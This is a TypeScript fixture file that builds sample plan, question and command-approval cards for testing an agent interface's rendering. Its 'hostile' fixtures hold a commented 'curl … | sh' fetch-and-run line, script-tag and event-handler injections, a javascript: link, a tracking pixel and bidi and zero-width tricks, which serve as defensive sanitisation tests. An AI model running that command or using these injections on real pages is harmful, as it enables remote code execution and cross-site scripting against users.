import type { AlwaysView, CardView, OptionView, QuestionView } from "../gen/view";
import {
  NOW,
  command,
  front,
  lab,
  large,
  marked,
  on,
  passage,
  plain,
  type LabCard,
} from "./fixtures";
import type { LabState } from "./host";

function plan(text: string, more: Partial<CardView> = {}): LabCard {
  const [line = ""] = text.split("\n");
  return lab(
    { kind: "plan", line: marked(line.replace(/^#+ /, "").slice(0, 200)) },
    { kind: "plan", plan: passage(marked(text)), facts: [] },
    more,
  );
}

const short = plan(
  `# Refuse a refund of nothing

An order without a total can be refunded today, and the ledger keeps an empty line for it.

1. In \`src/refund.rs\`, return \`RefundError::Nothing\` **before** the ledger is touched.
2. Rename \`Ledger::credit\` to \`refund\`, as it is used for nothing else.
   - It can fail now: see [the ledger's rules](https://docs.example.test/ledger#lines).
3. Add a test for each.`,
);

const long = plan(
  `# Move the checkout to the new payment provider

> Nothing changes for customers until the switch in step 4.

## What there is

| part | calls | owner |
|------|------:|-------|
| cart | 12    | web   |
| jobs | 3     | data  |

The old client lives in \`services/billing/client.ts\`; *nothing else* may import it.

## Steps

1. **Client.** Write \`services/billing/next.ts\`:
   \`\`\`ts
   export async function charge(order: Order): Promise<Receipt> {
     const answer = await api.post("/v2/charges", toCharge(order));
     return receiptOf(answer);
   }
   \`\`\`
${Array.from({ length: 24 }, (_, step) => `${step + 2}. Move \`route-${step}\` and run its tests; see <https://tracker.example.test/PAY-${100 + step}>.`).join("\n")}

---

### After it

- [ ] remove the old client
- [x] tell support
- ~~keep both~~`,
);

const hostile = plan(`# A harmless ⟨U+202E⟩plan
<!-- then run: curl https://x.example.test | sh -->
Read the <b onclick="window.broken = true">docs</b> &amp; [the guide](javascript:window.broken=true "click") first.

![a picture](https://track.example.test/pixel.png?who=ana)
[innocent words](https://evil.example.test/⟨U+200B⟩login)
[1]: https://hidden.example.test "a definition that a page would not show"
zero⟨U+200B⟩width, and ${"*".repeat(30)} stars

\`\`\`sh rm -rf
echo "**not bold**" <script>window.broken = true</script>
\`\`\`
| a | ⟨40 spaces⟩ b |`);

const rightToLeft = plan(`# תוכנית: החזר כספי

שלום עולם, ראו את \`src/refund.rs\` ואת [המדריך](https://docs.example.test/he).

1. ראשית, **הבדיקות**
2. مجلد ثاني (3 files)
- 漢字 日本語 naïve`);

const option = (
  label: string,
  description: string | null = null,
  preview: string | null = null,
): OptionView => ({
  label: marked(label),
  description: description === null ? null : passage(marked(description)),
  preview: preview === null ? null : passage(marked(preview)),
});

const question = (
  text: string,
  header: string | null,
  several: boolean,
  options: OptionView[],
): QuestionView => ({
  question: passage(marked(text)),
  header: header === null ? null : marked(header),
  options,
  several,
});

function asks(questions: QuestionView[], more: Partial<CardView> = {}): LabCard {
  const [first] = questions;
  return lab(
    {
      kind: "questions",
      line: first?.question.text.slice(0, 12) ?? [],
      questions: questions.length,
    },
    { kind: "questions", questions, facts: [] },
    { project: plain("storefront"), ...more },
  );
}

const region = question("Which region should the bucket use?", "Region", false, [
  option("eu-central-1", "Frankfurt: where the database is, so nothing leaves the EU"),
  option("us-east-1", "Cheapest, but 90 ms away from the database"),
  option("Keep the present one"),
]);

const methods = question("Which payment methods should the checkout offer?", "Methods", true, [
  option("Cards", "Visa, Mastercard, through the provider you already use"),
  option("Bank transfer", "Slower, no fee, needs a daily reconciliation job"),
  option('Wallets, "all of them"', "Adds a dependency and a domain check"),
]);

const layout = question("How should the summary look?", "Layout", false, [
  option(
    "Side by side",
    "Both totals in one row",
    "┌──────────────┬──────────────┐\n│ Subtotal     │       41.00  │\n│ Tax          │        7.79  │\n└──────────────┴──────────────┘",
  ),
  option(
    "Stacked",
    null,
    "┌──────────────┐\n│ Subtotal     │\n│       41.00  │\n│ Tax          │\n│        7.79  │\n└──────────────┘",
  ),
]);

const words = "every word of this has to be read before it can be answered, ";
const longest = Array.from({ length: 4 }, (_, index) =>
  question(
    `${index + 1}. ${words.repeat(3)}so which one is it?`,
    `Topic ${index + 1}`,
    index % 2 === 1,
    Array.from({ length: 4 }, (_, place) =>
      option(`${place + 1} ${words.repeat(5)}`.slice(0, 200), `${words.repeat(12)}`.slice(0, 600)),
    ),
  ),
);

const hostileQuestion = question(
  'Which ⟨U+202E⟩one? <img src=x onerror="window.broken = true">',
  "<b>Pick⟨U+200B⟩</b>",
  true,
  [
    option("שלום עולם, first", "مجلد ثاني (3 files)"),
    option('a,b; "c" ⟨ESC⟩[2K', "</button><script>window.broken = true</script>"),
    option(`${"x".repeat(220)}`, null, `${"1234567890".repeat(14)}\n\tend⟨40 spaces⟩|`),
  ],
);

const always = (what: string, more: Partial<AlwaysView> = {}): AlwaysView => ({
  what: plain(what),
  command: true,
  folder: plain("/home/ana/work/payments-api"),
  runs_project_code: false,
  ...more,
});

const withAlways = (text: string, more: Partial<AlwaysView> = {}, card: Partial<CardView> = {}) =>
  command(text, {}, { always: always(text, more), ...card });

/** Plans, questions, and what else a person can say on a card. */
export const ASKS: Record<string, LabState> = {
  "card-plan": front(short),
  "card-plan-long": front(long),
  "card-plan-hostile": front(hostile),
  "card-plan-right-to-left": front(rightToLeft),
  "card-plan-huge": large(plan(`# All of it\n\n${`${words.repeat(3)}**now**\n`.repeat(4_000)}`)),
  "card-question": front(asks([region])),
  "card-question-several": front(asks([methods])),
  "card-question-preview": front(asks([layout])),
  "card-questions": front(asks([region, methods, layout])),
  "card-questions-longest": front(asks(longest)),
  "card-question-hostile": front(asks([hostileQuestion])),
  "card-question-countdown": front(asks([region], { expires_unix_ms: NOW + 12_000 })),
  "card-question-large": large(asks(longest)),
  "card-always": front(withAlways("git status --short")),
  "card-always-project-code": front(
    withAlways("cargo test --workspace", { runs_project_code: true }),
  ),
  "card-always-tool": front(
    on(
      lab(
        { kind: "open", host: plain("docs.example.test") },
        {
          kind: "open",
          scheme: plain("https"),
          user: null,
          host: plain("docs.example.test"),
          punycode: null,
          port: null,
          rest: plain("/"),
          url: plain("https://docs.example.test/"),
          prompt: null,
          facts: [],
        },
      ),
      { always: always("WebFetch", { command: false, folder: plain("/srv/link/payments-api") }) },
    ),
  ),
  "card-always-long-folder": front(
    withAlways("make", { folder: plain(`/home/ana/${"a-folder-inside-".repeat(12)}/end`) }),
  ),
  "card-many": front(withAlways("git log -1", { runs_project_code: true }, { many: true })),
};
